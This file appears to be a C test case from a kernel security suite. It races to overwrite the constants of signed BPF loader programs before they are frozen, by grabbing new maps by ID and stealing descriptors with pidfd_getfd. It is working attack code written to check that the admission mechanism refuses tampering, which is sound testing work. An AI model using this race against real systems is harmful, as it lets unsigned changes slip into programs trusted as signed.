// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Writes to the constants that a signed loader is just making, before it freezes them: opens every new map by its number, and
 * takes the descriptors of who runs the loader.
 * Success: the program that comes in has other constants, and refuses nothing.
 */
#include "admission.h"
#include <sys/mman.h>
#include <sys/syscall.h>

#define TRIES 300

static volatile unsigned *written;

static void overwrite(int map)
{
	static const char other[16] = "another-name";
	uint32_t only = 0;

	if (update_map(map, &only, other, BPF_ANY) == 0)
		++*written;
	close(map);
}

static void open_new_maps(void)
{
	union bpf_attr attr = {};
	uint32_t newest = 0;

	for (;;) {
		int map;

		attr.start_id = newest;
		if (bpf(BPF_MAP_GET_NEXT_ID, &attr, sizeof(attr)))
			continue;
		newest = attr.next_id;
		map = by_id(BPF_MAP_GET_FD_BY_ID, newest, 0);
		if (map >= 0)
			overwrite(map);
	}
}

static void take_descriptors(int process, int from)
{
	for (;;)
		for (int fd = from; fd < from + 4; fd++) {
			int map = syscall(SYS_pidfd_getfd, process, fd, 0);

			if (map >= 0)
				overwrite(map);
		}
}

static void run(void)
{
	struct loader loader = read_loader("admitted");
	int keyring = admitting_keyring(), changed = 0, self = syscall(SYS_pidfd_open, getpid(), 0), programs[TRIES], next;
	struct loader_context made;

	written = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	for (int i = 0; i < TRIES; i++) {
		int map = finished_data(&loader);

		programs[i] = must("BPF_PROG_LOAD", load_loader(&loader, map, &(struct load){ .keyring = keyring }));
		close(map);
	}
	next = dup(self);
	close(next);
	if (fork() == 0)
		open_new_maps();
	if (fork() == 0)
		take_descriptors(self, next);
	usleep(100000);
	for (int i = 0; i < TRIES; i++) {
		char constants[16] = "";
		uint32_t only = 0;

		if (run_loader(programs[i], &made))
			continue;
		if (look_up(made.map, &only, constants) == 0 && strcmp(constants, "nobody-opens-it") != 0)
			changed++;
		close(made.program);
		close(made.map);
	}
	fprintf(stderr, "attacks: %u writes, %d changed\n", *written, changed);
	if (changed)
		got("a signed program with constants of its own, in %d of %d", changed, TRIES);
	errno = EPERM;
	act("a write to what a loader is making", -1);
}

ATTACK("writes to the constants that a signed loader makes, before they are frozen", .run = run, .on_admission = true, .seconds = 120);
